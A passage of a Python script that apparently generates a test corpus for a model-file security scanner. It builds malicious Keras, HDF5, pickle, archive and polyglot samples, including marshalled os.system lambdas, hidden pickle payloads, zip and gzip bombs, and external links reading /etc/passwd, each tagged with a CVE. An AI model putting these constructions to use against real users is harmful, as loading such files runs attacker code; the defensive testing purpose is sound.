        [], "init", [], [], [_external_constant("../../onnx_outside/secret.bin")]
    )
    model.training_info.append(onnx.TrainingInfoProto(initialization=init))
    c.bad(
        "onnx/ext_in_training_info/model.onnx",
        model.SerializeToString(),
        cls,
        "external data with '..' in a training_info initialization graph",
        "novel",
    )


# ---- Keras ------------------------------------------------------------------------------------


def _kobj(
    module: str | None, class_name: str, config: Any, registered_name: Any = None
) -> dict[str, Any]:
    return {
        "module": module,
        "class_name": class_name,
        "config": config,
        "registered_name": registered_name,
    }


def _kdense(name: str, units: int, activation: Any = "relu") -> dict[str, Any]:
    return _kobj(
        "keras.layers",
        "Dense",
        {
            "name": name,
            "trainable": True,
            "dtype": _kobj("keras", "DTypePolicy", {"name": "float32"}),
            "units": units,
            "activation": activation,
            "use_bias": True,
            "kernel_initializer": _kobj("keras.initializers", "GlorotUniform", {"seed": None}),
            "bias_initializer": _kobj("keras.initializers", "Zeros", {}),
            "kernel_regularizer": None,
            "bias_regularizer": None,
            "kernel_constraint": None,
            "bias_constraint": None,
        },
    )


def _kinput(shape: list[int | None]) -> dict[str, Any]:
    return _kobj(
        "keras.layers",
        "InputLayer",
        {"batch_shape": shape, "dtype": "float32", "sparse": False, "name": "input_layer"},
    )


def _ksequential(layers: list[dict[str, Any]], name: str = "sequential") -> dict[str, Any]:
    return _kobj(
        "keras",
        "Sequential",
        {
            "name": name,
            "trainable": True,
            "dtype": _kobj("keras", "DTypePolicy", {"name": "float32"}),
            "layers": layers,
        },
    )


def _klambda_code() -> str:
    fn = compile("lambda x: (__import__('os').system('true'), x)[1]", "<corpus>", "eval")
    return base64.b64encode(marshal.dumps(fn.co_consts[0])).decode("ascii")


def _h5(fill: Callable[[Any], None], userblock: int = 0) -> bytes:
    import h5py

    with tempfile.TemporaryDirectory() as tmp:
        target = Path(tmp) / "f.h5"
        kwargs: dict[str, Any] = {"userblock_size": userblock} if userblock else {}
        with h5py.File(target, "w", track_order=True, **kwargs) as fh:
            fill(fh)
        return target.read_bytes()


def _keras_weights(layers: Sequence[tuple[str, Sequence[tuple[int, ...]]]]) -> bytes:
    import numpy as np

    def fill(fh: Any) -> None:
        for name, shapes in layers:
            grp = fh.create_group(f"layers/{name}/vars")
            for i, shape in enumerate(shapes):
                grp.create_dataset(
                    str(i), data=np.full(shape, 0.5, dtype=np.float32), track_times=False
                )
        fh.create_group("optimizer/vars")
        fh.create_group("vars")

    return _h5(fill)


def _keras_zip(
    config: dict[str, Any], weights: bytes, extra: Sequence[tuple[str, bytes]] = ()
) -> bytes:
    meta = {"keras_version": "3.5.0", "date_saved": "2024-09-01@12:00:00"}
    return zip_bytes(
        [
            ("metadata.json", json.dumps(meta).encode()),
            ("config.json", json.dumps(config).encode()),
            ("model.weights.h5", weights),
            *extra,
        ]
    )


def _keras_h5_model(
    model_config: dict[str, Any],
    layers: Sequence[tuple[str, Sequence[tuple[int, ...]]]],
    userblock_prefix: bytes = b"",
) -> bytes:
    """A Keras 2 style full-model HDF5 file (model_config attribute + model_weights group)."""
    import numpy as np

    def fill(fh: Any) -> None:
        fh.attrs["keras_version"] = "2.13.1"
        fh.attrs["backend"] = "tensorflow"
        fh.attrs["model_config"] = json.dumps(model_config)
        mw = fh.create_group("model_weights")
        mw.attrs["layer_names"] = np.array([n.encode() for n, _ in layers])
        mw.attrs["backend"] = "tensorflow"
        mw.attrs["keras_version"] = "2.13.1"
        for name, shapes in layers:
            grp = mw.create_group(name)
            wnames = [
                f"{name}/{'kernel' if i == 0 else 'bias'}:0".encode() for i in range(len(shapes))
            ]
            grp.attrs["weight_names"] = np.array(wnames)
            for wn, shape in zip(wnames, shapes, strict=True):
                grp.create_dataset(
                    wn.decode(), data=np.full(shape, 0.25, dtype=np.float32), track_times=False
                )

    data = _h5(fill, userblock=512 if userblock_prefix else 0)
    if userblock_prefix:
        assert len(userblock_prefix) <= 512
        data = userblock_prefix + data[len(userblock_prefix) :]
    return data


def _keras2_sequential(layers: list[dict[str, Any]]) -> dict[str, Any]:
    return {
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": layers},
        "keras_version": "2.13.1",
        "backend": "tensorflow",
    }


def _keras2_dense(name: str, units: int, input_dim: int | None = None) -> dict[str, Any]:
    cfg: dict[str, Any] = {
        "name": name,
        "trainable": True,
        "dtype": "float32",
        "units": units,
        "activation": "relu",
        "use_bias": True,
        "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
        "bias_initializer": {"class_name": "Zeros", "config": {}},
    }
    if input_dim is not None:
        cfg["batch_input_shape"] = [None, input_dim]
    return {"class_name": "Dense", "config": cfg}


def _keras(c: Corpus) -> None:
    cls = "keras"
    w = _keras_weights([("dense", [(4, 8), (8,)]), ("dense_1", [(8, 2), (2,)])])
    lam3 = _kobj(
        "keras.layers",
        "Lambda",
        {
            "name": "lambda",
            "trainable": True,
            "dtype": "float32",
            "function": {
                "class_name": "__lambda__",
                "config": {"code": _klambda_code(), "defaults": None, "closure": None},
            },
            "output_shape": None,
            "arguments": {},
        },
    )
    seq = _ksequential([_kinput([None, 4]), _kdense("dense", 8), lam3, _kdense("dense_1", 2)])
    c.bad(
        "keras/lambda_bytecode.keras",
        _keras_zip(seq, w),
        cls,
        "Keras 3 .keras whose Lambda layer carries marshalled bytecode",
        "CVE-2024-3660",
    )
    inner = _ksequential([lam3], name="inner")
    outer = _kobj(
        "keras",
        "Functional",
        {
            "name": "functional",
            "trainable": True,
            "layers": [_kinput([None, 4]), _kdense("dense", 8), inner, _kdense("dense_1", 2)],
            "input_layers": [["input_layer", 0, 0]],
            "output_layers": [["dense_1", 0, 0]],
        },
    )
    c.bad(
        "keras/lambda_nested_in_submodel.keras",
        _keras_zip(outer, w),
        cls,
        "Lambda hidden inside a nested Sequential inside a Functional model",
        "CVE-2024-3660",
    )
    custom = _kobj(
        "attacker_pkg.layers",
        "Backdoor",
        {"name": "backdoor", "trigger": 7},
        "attacker_pkg>Backdoor",
    )
    c.bad(
        "keras/unknown_custom_object.keras",
        _keras_zip(
            _ksequential([_kinput([None, 4]), _kdense("dense", 8), custom, _kdense("dense_1", 2)]),
            w,
        ),
        cls,
        "layer from an unknown module (attacker_pkg.layers.Backdoor): import runs its code",
        "CVE-2025-1550",
    )
    fn_obj = _kdense("dense", 8, activation=_kobj("os", "function", "system", "system"))
    c.bad(
        "keras/function_object_os_system.keras",
        _keras_zip(_ksequential([_kinput([None, 4]), fn_obj, _kdense("dense_1", 2)]), w),
        cls,
        "activation deserialised as a 'function' object from module os (os.system)",
        "CVE-2025-1550 (GHSA-48g7-3x6r-xfhp)",
    )
    fn_exec = _kdense("dense", 8, activation=_kobj("builtins", "function", "exec", "exec"))
    c.bad(
        "keras/function_object_builtins_exec.keras",
        _keras_zip(_ksequential([_kinput([None, 4]), fn_exec, _kdense("dense_1", 2)]), w),
        cls,
        "activation = builtins.exec as a 'function' object",
        "CVE-2025-1550",
    )
    get_file = _kdense(
        "dense", 8, activation=_kobj("keras.utils", "function", "get_file", "get_file")
    )
    c.bad(
        "keras/function_object_keras_get_file.keras",
        _keras_zip(_ksequential([_kinput([None, 4]), get_file, _kdense("dense_1", 2)]), w),
        cls,
        "keras.utils.get_file referenced under the allowed keras.* prefix (downloads a file)",
        "CVE-2025-8747",
    )
    tfsm = _kobj(
        "keras.layers",
        "TFSMLayer",
        {
            "name": "tfsm",
            "filepath": "/tmp/attacker_savedmodel",
            "call_endpoint": "serve",
            "trainable": False,
        },
    )
    c.bad(
        "keras/tfsm_layer_external_savedmodel.keras",
        _keras_zip(_ksequential([_kinput([None, 4]), tfsm]), w),
        cls,
        "TFSMLayer loading an attacker SavedModel from an absolute path",
        "CVE-2026-1462",
    )
    twrap = _kobj(
        "keras.layers",
        "TorchModuleWrapper",
        {
            "name": "torch_module_wrapper",
            "trainable": True,
            "module": base64.b64encode(_torch_zip(pk(system_call("global"), 2))).decode("ascii"),
        },
    )
    c.bad(
        "keras/torch_module_wrapper_pickle.keras",
        _keras_zip(_ksequential([_kinput([None, 4]), twrap]), w),
        cls,
        "TorchModuleWrapper config embedding a base64 torch.save (pickle) with a payload",
        "Keras TorchModuleWrapper.from_config uses torch.load",
    )
    c.bad(
        "keras/extra_pickle_asset.keras",
        _keras_zip(
            _ksequential([_kinput([None, 4]), _kdense("dense", 8), _kdense("dense_1", 2)]),
            w,
            extra=[("assets/preprocessor.pkl", pk(system_call("stack")))],
        ),
        cls,
        "a clean .keras plus a pickle asset carrying a payload",
    )
    lam2 = {
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "trainable": True,
            "dtype": "float32",
            "function": [_klambda_code(), None, None],
            "function_type": "lambda",
            "module": "__main__",
            "output_shape": None,
            "output_shape_type": "raw",
            "arguments": {},
        },
    }
    layers = [("dense", [(4, 8), (8,)]), ("dense_1", [(8, 2), (2,)])]
    c.bad(
        "keras/h5_lambda_bytecode.h5",
        _keras_h5_model(
            _keras2_sequential([_keras2_dense("dense", 8, 4), lam2, _keras2_dense("dense_1", 2)]),
            layers,
        ),
        cls,
        "legacy HDF5 model whose model_config has a Lambda with marshalled bytecode "
        "(safe_mode is not applied to .h5)",
        "CVE-2025-9905",
    )
    lam2_k3 = {
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "function": {
                "class_name": "__lambda__",
                "config": {"code": _klambda_code(), "defaults": None, "closure": None},
            },
        },
    }
    c.bad(
        "keras/h5_lambda_keras3_style.h5",
        _keras_h5_model(
            _keras2_sequential(
                [_keras2_dense("dense", 8, 4), lam2_k3, _keras2_dense("dense_1", 2)]
            ),
            layers,
        ),
        cls,
        "HDF5 model with a Keras-3-style __lambda__ function dict",
        "CVE-2025-9905",
    )
    nested_h5 = {
        "class_name": "Functional",
        "config": {
            "name": "model",
            "layers": [
                {
                    "class_name": "Sequential",
                    "config": {"name": "block", "layers": [lam2]},
                    "name": "block",
                }
            ],
        },
    }
    c.bad(
        "keras/h5_lambda_nested.h5",
        _keras_h5_model(nested_h5, layers),
        cls,
        "HDF5 model with the Lambda nested inside a sub-model",
        "CVE-2025-9905",
    )
    c.bad(
        "keras/h5_custom_object.h5",
        _keras_h5_model(
            _keras2_sequential(
                [
                    _keras2_dense("dense", 8, 4),
                    {
                        "class_name": "attacker>Backdoor",
                        "config": {"name": "bd"},
                        "module": "attacker_pkg",
                    },
                ]
            ),
            layers,
        ),
        cls,
        "HDF5 model referencing an unregistered custom layer from attacker_pkg",
        "novel",
    )
    act = {
        "class_name": "__lambda__",
        "config": {"code": _klambda_code(), "defaults": None, "closure": None},
    }
    c.bad(
        "keras/lambda_as_activation.keras",
        _keras_zip(
            _ksequential(
                [_kinput([None, 4]), _kdense("dense", 8, activation=act), _kdense("dense_1", 2)]
            ),
            w,
        ),
        cls,
        "__lambda__ bytecode as a Dense layer's activation (no Lambda layer at all)",
        "CVE-2024-3660",
    )
    clean_seq = _ksequential([_kinput([None, 4]), _kdense("dense", 8), _kdense("dense_1", 2)])
    compile_cfg = {
        **clean_seq,
        "compile_config": {"optimizer": "adam", "loss": act, "metrics": None},
    }
    c.bad(
        "keras/lambda_in_compile_config.keras",
        _keras_zip(compile_cfg, w),
        cls,
        "__lambda__ bytecode as the loss in compile_config",
        "CVE-2024-3660",
    )
    import numpy as np

    def fill_bytes_attr(fh: Any) -> None:
        fh.attrs["keras_version"] = "2.13.1"
        fh.attrs["backend"] = "tensorflow"
        config = _keras2_sequential([_keras2_dense("dense", 8, 4), lam2])
        fh.attrs["model_config"] = np.bytes_(json.dumps(config).encode())
        fh.create_group("model_weights")

    c.bad(
        "keras/h5_config_as_bytes.h5",
        _h5(fill_bytes_attr),
        cls,
        "HDF5 model_config stored as a bytes attribute (Keras decodes it) with a Lambda",
        "CVE-2025-9905",
    )

    def fill_training(fh: Any) -> None:
        fh.attrs["keras_version"] = "2.13.1"
        fh.attrs["backend"] = "tensorflow"
        fh.attrs["model_config"] = json.dumps(_keras2_sequential([_keras2_dense("dense", 2, 2)]))
        fh.attrs["training_config"] = json.dumps(
            {
                "loss": act,
                "optimizer_config": {"class_name": "Adam", "config": {"learning_rate": 0.001}},
            }
        )
        fh.create_group("model_weights")

    c.bad(
        "keras/h5_lambda_in_training_config.h5",
        _h5(fill_training),
        cls,
        "HDF5 training_config whose loss is __lambda__ bytecode (run by compile on load)",
        "CVE-2025-9905",
    )

    def fill_external(fh: Any) -> None:
        fh.attrs["keras_version"] = "2.13.1"
        fh.attrs["backend"] = "tensorflow"
        fh.attrs["model_config"] = json.dumps(_keras2_sequential([_keras2_dense("dense", 2, 2)]))
        grp = fh.create_group("model_weights/dense")
        grp.attrs["weight_names"] = np.array([b"dense/kernel:0"])
        grp.create_dataset(
            "dense/kernel:0", shape=(2, 2), dtype="f4", external=[("/etc/passwd", 0, 16)]
        )

    c.bad(
        "keras/h5_external_storage_escape.h5",
        _h5(fill_external),
        cls,
        "weights dataset whose raw data lives in an external file (/etc/passwd): loading "
        "reads a file outside the model into the weights (HDF5 analogue of ONNX external data)",
        "novel",
    )

    def fill_extlink(fh: Any) -> None:
        fh.attrs["keras_version"] = "2.13.1"
        fh.attrs["model_config"] = json.dumps(_keras2_sequential([_keras2_dense("dense", 2, 2)]))
        fh.create_group("model_weights")
        import h5py

        fh["model_weights/dense"] = h5py.ExternalLink("../../../../tmp/attacker.h5", "/dense")

    c.bad(
        "keras/h5_external_link_escape.h5",
        _h5(fill_extlink),
        cls,
        "weights group is an HDF5 external link to ../../../../tmp/attacker.h5",
        "novel",
    )


# ---- archives nested in archives --------------------------------------------------------------


def _nest(data: bytes, name: str, depth: int, kind: str = "zip") -> bytes:
    for level in range(depth):
        if kind == "zip":
            data = zip_bytes([(name if level == 0 else f"layer{level}.zip", data)])
        elif kind == "tar":
            data = tar_bytes([(name if level == 0 else f"layer{level}.tar", data)])
    return data


def _gzip_multi(member: bytes, copies: int) -> bytes:
    return member * copies


def _archives(c: Corpus) -> None:
    cls = "archive"
    payload = pk(system_call("stack"))
    tpayload = _torch_zip(pk(system_call("global"), 2))
    c.bad(
        "archive/zip_with_pickle.zip",
        zip_bytes([("model.pkl", payload)]),
        cls,
        "zip holding a pickle",
    )
    c.bad(
        "archive/zip_member_no_extension.zip",
        zip_bytes([("weights", payload)]),
        cls,
        "zip member with no extension is a pickle",
        "picklescan scan_zip_bytes (extension filter)",
    )
    c.bad(
        "archive/zip_deflated_member.zip",
        zip_bytes(
            [("readme.txt", b"hello\n"), ("model.pkl", payload)], compression=zipfile.ZIP_DEFLATED
        ),
        cls,
        "deflated zip member",
    )
    c.bad(
        "archive/tar_with_pickle.tar",
        tar_bytes([("model/model.pkl", payload)]),
        cls,
        "tar holding a pickle",
    )
    c.bad(
        "archive/tgz_with_pickle.tar.gz",
        tar_bytes([("model.pkl", payload)], compression="gz"),
        cls,
        "tar.gz holding a pickle",
    )
    c.bad(
        "archive/tbz2_with_torch.tar.bz2",
        tar_bytes([("ckpt/model.pt", tpayload)], compression="bz2"),
        cls,
        "tar.bz2 holding a malicious PyTorch zip",
    )
    c.bad(
        "archive/txz_with_pickle.tar.xz",
        tar_bytes([("model.pkl", payload)], compression="xz"),
        cls,
        "tar.xz holding a pickle",
    )
    c.bad("archive/pickle.pkl.gz", gzip_bytes(payload), cls, "gzip of a pickle")
    c.bad("archive/pickle.pkl.bz2", bz2.compress(payload), cls, "bzip2 of a pickle")
    c.bad("archive/pickle.pkl.xz", compress(payload, "xz"), cls, "xz of a pickle")
    c.bad(
        "archive/zip_in_zip_in_zip_torch.zip",
        _nest(tpayload, "model.pt", 3),
        cls,
        "malicious PyTorch zip inside a zip inside a zip",
    )
    c.bad(
        "archive/tar_in_zip.zip",
        zip_bytes([("bundle.tar", tar_bytes([("model.pkl", payload)]))]),
        cls,
        "tar inside a zip",
    )
    c.bad(
        "archive/gz_in_tar_in_zip.zip",
        zip_bytes([("bundle.tar", tar_bytes([("model.pkl.gz", gzip_bytes(payload))]))]),
        cls,
        "gzip inside a tar inside a zip",
    )
    c.bad(
        "archive/zip_in_tgz.tar.gz",
        tar_bytes([("inner.zip", zip_bytes([("data/model.pkl", payload)]))], compression="gz"),
        cls,
        "zip inside a tar.gz",
    )
    c.bad(
        "archive/npy_in_zip.zip",
        zip_bytes(
            [
                (
                    "arrays/labels.npy",
                    npy_bytes(
                        {"descr": "|O", "fortran_order": False, "shape": (1,)},
                        pk(system_call("global"), 3),
                    ),
                )
            ]
        ),
        cls,
        "object-array .npy inside a zip (not named .npz)",
    )
    c.bad(
        "archive/joblib_xz_in_tar.tar",
        tar_bytes([("model.joblib", compress(payload, "xz"))]),
        cls,
        "xz joblib inside a tar",
    )
    c.bad(
        "archive/depth_12_pickle.zip",
        _nest(payload, "model.pkl", 12),
        cls,
        "pickle 12 zips deep (found, or the depth limit trips: both unsafe)",
    )
    c.bad(
        "archive/depth_64_benign.zip",
        _nest(b'{"ok": true}\n', "config.json", 64),
        cls,
        "64 nested zips around a JSON file: past any sane depth limit, must fail closed",
        "issue brief (depth limit)",
    )
    c.bad(
        "archive/tar_depth_40_pickle.tar",
        _nest(payload, "model.pkl", 40, "tar"),
        cls,
        "pickle 40 tars deep",
    )
    many = [RawMember(f"m{i:05d}".encode(), b"") for i in range(70000)]
    c.bad(
        "archive/member_count_70000.zip",
        raw_zip(many),
        cls,
        "70,000 empty members (zip64 end record): over any member-count limit",
        "issue brief (member count)",
    )
    c.bad(
        "archive/member_count_payload_last.zip",
        raw_zip(
            [RawMember(f"m{i:05d}.txt".encode(), b"x") for i in range(5000)]
            + [RawMember(b"z/model.pkl", payload)]
        ),
        cls,
        "payload as the 5,001st member",
    )
    zeros_64m = bytes(64 << 20)
    deflated = deflate_raw(zeros_64m)
    zcrc = zlib.crc32(zeros_64m)
    c.bad(
        "archive/ratio_bomb.zip",
        raw_zip([RawMember(b"weights.bin", deflated, method=8, crc=zcrc, usize=len(zeros_64m))]),
        cls,
        "one 64 MiB member deflated to ~64 KiB (ratio ~1000:1)",
        "issue brief (compression ratio)",
    )
    c.bad(
        "archive/total_size_bomb.zip",
        raw_zip(
            [
                RawMember(
                    f"shard{i:03d}.bin".encode(), deflated, method=8, crc=zcrc, usize=len(zeros_64m)
                )
                for i in range(272)
            ]
        ),
        cls,
        "272 members of 64 MiB each: 17 GiB when extracted",
        "issue brief (total size)",
    )
    c.bad(
        "archive/overlapping_members_bomb.zip",
        raw_zip(
            [RawMember(b"kernel.bin", deflated, method=8, crc=zcrc, usize=len(zeros_64m))]
            + [
                RawMember(
                    f"alias{i:04d}.bin".encode(),
                    deflated,
                    method=8,
                    crc=zcrc,
                    usize=len(zeros_64m),
                    offset_of=0,
                )
                for i in range(1, 200)
            ]
        ),
        cls,
        "200 central-directory entries sharing one local file (non-recursive zip bomb)",
        "Fifield, A better zip bomb (WOOT 2019)",
    )
    c.bad(
        "archive/declared_size_lie.zip",
        raw_zip(
            [RawMember(b"weights.bin", deflate_raw(bytes(1024)), method=8, crc=0, usize=1 << 40)]
        ),
        cls,
        "member declares 1 TiB uncompressed in its zip64 field",
    )
    gz_member = (
        b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
        + deflated
        + struct.pack("<II", zcrc, len(zeros_64m))
    )
    c.bad(
        "archive/gzip_bomb.bin.gz",
        _gzip_multi(gz_member, 64),
        cls,
        "64 concatenated gzip members of 64 MiB zeros: 4 GiB from 4 MiB",
        "issue brief (decompression bomb)",
    )
    bz_member = bz2.compress(zeros_64m)
    c.bad(
        "archive/bz2_bomb.bin.bz2",
        bz_member * 256,
        cls,
        "256 concatenated bzip2 streams of 64 MiB zeros: 16 GiB from ~20 KiB",
    )
    xz_member = lzma.compress(zeros_64m, format=lzma.FORMAT_XZ, preset=0)
    c.bad("archive/xz_bomb.bin.xz", xz_member * 128, cls, "128 concatenated xz streams: 8 GiB")
    c.bad(
        "archive/joblib_xz_bomb.joblib",
        xz_member * 32,
        cls,
        "joblib-style xz file that inflates to 2 GiB of zeros (a decompression bomb)",
    )
    c.bad(
        "archive/encrypted_member.zip",
        raw_zip([RawMember(b"model.pkl", b"\x12\x34" * 40, flags=0x1, crc=0x11223344, usize=68)]),
        cls,
        "encrypted member: cannot be examined, must fail closed",
    )
    c.bad(
        "archive/tar_pickle_in_sparse_dir.tar",
        tar_bytes([("a/b/c/d/e/f/g/h/weights.bin", payload), ("a/readme.md", b"# model\n")]),
        cls,
        "pickle deep in a tar's folders with a .bin name",
    )
    hdr = {"descr": "|O", "fortran_order": False, "shape": (1,)}
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_LZMA) as zf:
        info = zipfile.ZipInfo("labels.npy", date_time=_ZIP_DATE)
        info.compress_type = zipfile.ZIP_LZMA
        zf.writestr(info, npy_bytes(hdr, pk(system_call("global"), 3)))
    c.bad(
        "archive/npz_lzma_member.npz",
        buf.getvalue(),
        cls,
        ".npz whose object-array member is LZMA-compressed (zipfile reads it, miniz does not)",
    )
    c.bad(
        "archive/zip_method_zstd.zip",
        raw_zip(
            [
                RawMember(
                    b"model.pkl",
                    b"\x28\xb5\x2f\xfd" + payload,
                    method=93,
                    crc=zlib.crc32(payload),
                    usize=len(payload),
                )
            ]
        ),
        cls,
        "member compressed with method 93 (Zstandard, read by Python 3.14 zipfile): "
        "cannot be examined here, must fail closed",
    )
    broken = inject_after_proto(
        pickle.dumps({"w": list(range(32))}, protocol=2), system_call("global")
    )[:-20]
    c.bad(
        "archive/nullifai_7z_pytorch_model.bin",
        sevenzip_bytes("archive/data.pkl", broken),
        cls,
        "PyTorch-style model packed as a 7z archive (LZMA2) holding a broken pickle whose "
        "payload runs before the break",
        "ReversingLabs nullifAI (2025)",
    )
    c.bad(
        "archive/pickle_in_7z.7z",
        sevenzip_bytes("model.pkl", payload),
        cls,
        "7z archive (LZMA2) holding a pickle",
        "picklescan scan_7z_bytes",
    )
    half = len(payload) // 2
    c.bad(
        "archive/gzip_two_members_split_pickle.pkl.gz",
        gzip_bytes(payload[:half]) + gzip_bytes(payload[half:]),
        cls,
        "pickle split across two gzip members (gzip readers concatenate them)",
    )


# ---- polyglots ---------------------------------------------------------------------------------


def torch_zip_twins(payload_body: bytes) -> bytes:
    """Malicious torch zip A + benign torch zip B with byte-identical layout (A + B).

    miniz (torch) reads B's end record but takes its directory offset as absolute, which lands
    on A's identical directory, so ``torch.load`` unpickles A. :mod:`zipfile` corrects for the
    data before B and reads B. Verified with a benign A: torch returns A's object.
    """
    torch = _torch()
    members = zip_members(torch_save({"weights": torch.zeros(4), "note": "x" * 64}))
    benign_pkl = dict(members)["archive/data.pkl"]
    head = proto(2) + binunicode("")
    tail = POP + payload_body + STOP
    pad = len(benign_pkl) - len(head) - len(tail)
    assert pad >= 0
    evil_pkl = proto(2) + binunicode("p" * pad) + tail
    assert len(evil_pkl) == len(benign_pkl)
    a = zip_bytes([(n, evil_pkl if n.endswith("/data.pkl") else d) for n, d in members])
    b = zip_bytes(members)
    assert len(a) == len(b)
    return a + b


def onnx_pickle_polyglot(payload: bytes) -> bytes:
    """An ONNX ModelProto that is also a pickle running ``payload`` (binary opcodes + STOP).

    Protobuf reads: field 5 (model_version = 78), field 6 (doc_string of 85 bytes), then the
    real model. Pickle reads the same bytes as MARK, NONE, DUP, SHORT_BINSTRING (which skips
    the first bytes of the doc string), then ``payload`` from inside the doc string.
    """
    length = 0x55  # the doc string's length byte is also the SHORT_BINSTRING opcode 'U'
    skip = 10
    doc = bytes([skip]) + bytes(skip) + payload
    assert len(doc) <= length
    doc += b" " * (length - len(doc))
    return b"\x28\x4e\x32" + bytes([length]) + doc + _onnx_model(_onnx_graph()).SerializeToString()


def _polyglots(c: Corpus) -> None:
    cls = "polyglot"
    payload = pk(system_call("global"), 2)
    torch = _torch()
    benign_zip = torch_save({"w": torch.ones(2)})
    c.bad(
        "polyglot/pickle_then_torch_zip.pt",
        payload + benign_zip,
        cls,
        "pickle prepended to a valid PyTorch zip: zip readers see a clean checkpoint, torch.load "
        "sees no zip magic at offset 0 and unpickles the prefix",
        "fickling polyglot (zip+pickle)",
    )
    c.bad(
        "polyglot/pickle_then_npz.npz",
        payload
        + zip_bytes(
            [
                (
                    "w.npy",
                    npy_bytes({"descr": "<f4", "fortran_order": False, "shape": (2,)}, bytes(8)),
                )
            ]
        ),
        cls,
        "pickle prepended to a valid .npz: np.load(allow_pickle=True) unpickles the prefix",
    )
    c.bad(
        "polyglot/h5_userblock_pickle.h5",
        _keras_h5_model(
            _keras2_sequential([_keras2_dense("dense", 2, 2)]),
            [("dense", [(2, 2), (2,)])],
            userblock_prefix=payload,
        ),
        cls,
        "HDF5 whose 512-byte user block is a pickle: h5py opens it, pickle.load runs it",
        "novel",
    )
    c.bad(
        "polyglot/pickle_then_zip_with_pickle.zip",
        payload + zip_bytes([("model.pkl", pk(enc({"w": 1}), 2))]),
        cls,
        "pickle prefix before a zip whose member is benign",
    )
    c.bad(
        "polyglot/pickle_then_safetensors.safetensors",
        payload
        + safetensors_bytes(
            {"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, bytes(4)
        ),
        cls,
        "pickle followed by a safetensors file",
    )
    c.bad(
        "polyglot/torch_zip_then_benign_zip.pt",
        torch_zip_twins(bytes(system_call("global"))),
        cls,
        "two PyTorch zips of identical layout back to back, the first malicious: torch (miniz) "
        "takes the end record's offsets as absolute and reads the first archive, zipfile/numpy "
        "and end-of-file directory readers the second, benign one",
        "novel (parser differential)",
    )
    c.bad(
        "polyglot/onnx_pickle.onnx",
        onnx_pickle_polyglot(bytes(call(sg("os", "system"), CMD)) + STOP),
        cls,
        "valid ONNX model (onnx.load + checker pass) whose first protobuf fields are also a "
        "pickle: pickle.load/torch.load/np.load(allow_pickle) of the file run os.system",
        "novel",
    )
    c.bad(
        "polyglot/tar_member_name_pickle.tar",
        tar_bytes([("cos\nsystem\n(S'true'\ntR.", b"hello\n"), ("README.md", b"# model\n")]),
        cls,
        "valid tar whose first member name is a protocol-0 pickle: pickle.load and "
        "np.load(allow_pickle=True) of the tar run it",
        "novel",
    )


# ---- wrong extensions --------------------------------------------------------------------------


def _wrong_extensions(c: Corpus) -> None:
    cls = "wrong-extension"
    payload = pk(system_call("stack"))
    for name in (
        "model.safetensors",
        "model.onnx",
        "config.json",
        "weights.h5",
        "model.keras",
        "image.png",
        "README.md",
        "model.gguf",
        "data.csv",
        "no_extension",
        "model.tflite",
        "tokenizer.model",
    ):
        c.bad(f"wrongext/{name}", payload, cls, f"bare pickle named {name}", "CVE-2025-1889")
    c.bad(
        "wrongext/torch_zip.zip",
        _torch_zip(pk(system_call("global"), 2)),
        cls,
        "malicious PyTorch zip named .zip",
    )
    c.bad(
        "wrongext/torch_zip.msgpack",
        _torch_zip(pk(system_call("global"), 2)),
        cls,
        "malicious PyTorch zip named .msgpack",
    )
    c.bad("wrongext/joblib_xz.txt", compress(payload, "xz"), cls, "xz joblib payload named .txt")
    c.bad(
        "wrongext/object_npy.bin",
        npy_bytes(
            {"descr": "|O", "fortran_order": False, "shape": (1,)}, pk(system_call("global"), 3)
        ),
        cls,
        "object-array .npy named .bin",
    )
    c.bad(
        "wrongext/legacy_torch.safetensors",
        b"".join(
            [
                pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2),
                pickle.dumps(1001, protocol=2),
                pickle.dumps(
                    {
                        "protocol_version": 1001,
                        "little_endian": True,
                        "type_sizes": {"short": 2, "int": 4, "long": 4},
                    },
                    protocol=2,
                ),
                pk(system_call("global"), 2),
                pickle.dumps([], protocol=2),
            ]
        ),
        cls,
        "malicious legacy torch checkpoint named .safetensors",
    )


# ----------------------------------------------------------------------------------------------
# Benign samples: written by the real libraries, loadable by them
# ----------------------------------------------------------------------------------------------

#: Module that holds the "user-defined" classes benign pickles refer to (like a user's package).
USER_MODULE = "corpus_user_models"


@dataclass
class TrainConfig:
    """A user dataclass stored in a checkpoint."""

    lr: float
    layers: list[int]
    name: str


class Stage(enum.Enum):
    """A user enum stored in a checkpoint."""

    TRAIN = "train"
    EVAL = "eval"


class Node:
    """A user object graph with back references (a cycle)."""

    def __init__(self, name: str) -> None:
        self.name = name
        self.children: list[Node] = []
        self.parent: Node | None = None


_USER_CLASSES: dict[str, type] = {}


def register_user_classes() -> types.ModuleType:
    """Create (once) and return the module holding the user classes; loaders need it too.

    Also installs ``MainNet`` in ``__main__``, as a class defined in a training script is.
    """
    module = sys.modules.get(USER_MODULE)
    if module is not None and _USER_CLASSES:
        main = sys.modules["__main__"]
        if not hasattr(main, "MainNet"):
            main.MainNet = _USER_CLASSES["MainNet"]  # type: ignore[attr-defined]
        return module
    torch = _torch()
    module = types.ModuleType(USER_MODULE)

    class TinyNet(torch.nn.Module):  # type: ignore[misc,name-defined]
        def __init__(self) -> None:
            super().__init__()
            self.fc1 = torch.nn.Linear(4, 8)
            self.act = torch.nn.ReLU()
            self.fc2 = torch.nn.Linear(8, 2)
            self.register_buffer("running", torch.zeros(2))

        def forward(self, x):
            return self.fc2(self.act(self.fc1(x)))

    class ConvBlock(torch.nn.Module):  # type: ignore[misc,name-defined]
        def __init__(self) -> None:
            super().__init__()
            self.conv = torch.nn.Conv2d(1, 2, 3)
            self.bn = torch.nn.BatchNorm2d(2)
            self.head = TinyNet()

        def forward(self, x):
            return self.bn(self.conv(x))

    class MainNet(torch.nn.Module):  # type: ignore[misc,name-defined]
        def __init__(self) -> None:
            super().__init__()
            self.linear = torch.nn.Linear(3, 3)

        def forward(self, x):
            return self.linear(x)

    for klass, modname in (
        (TinyNet, USER_MODULE),
        (ConvBlock, USER_MODULE),
        (MainNet, "__main__"),
        (TrainConfig, USER_MODULE),
        (Stage, USER_MODULE),
        (Node, USER_MODULE),
    ):
        klass.__module__ = modname
